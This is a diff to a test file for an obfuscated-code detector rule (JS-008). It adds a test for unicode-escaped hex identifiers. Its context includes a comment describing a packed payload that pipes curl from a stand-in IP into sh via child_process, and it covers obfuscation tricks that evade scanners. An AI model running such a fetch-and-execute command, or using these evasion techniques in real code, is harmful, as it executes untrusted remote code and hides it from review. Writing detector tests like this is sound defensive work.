@@ -10,6 +10,15 @@ describe('JS-008 obfuscated-code', () => {
     expect(f[0]?.severity).toBe('high');
     expect(f[0]?.evidence?.stringArrayRotation).toBe(true);
   });
+  it('counts hex identifiers spelled with unicode escapes', async () => {
+    // `\u005f0x1a2b` is the identifier _0x1a2b: the text never contains "_0x"
+    const names = Array.from({ length: 12 }, (_, i) => `\\u005f0x${(0x1a2b + i).toString(16)}`);
+    const code = `var ${names.map((n, i) => `${n}=${i}`).join(',')};`;
+    expect(code).not.toContain('_0x');
+    const f = await ruleFindings('JS-008', code);
+    expect(f[0]?.evidence).toBeDefined();
+    expect(f.length).toBe(1);
+  });
   it('unpacks p,a,c,k,e,d packed code and analyses it', async () => {
     // packed form of: require('child_process').exec('curl http://192.0.2.1/x|sh')
     const words = ['require', 'child_process', 'exec', 'curl', 'http', '192', '0', '2', '1', 'x', 'sh'];
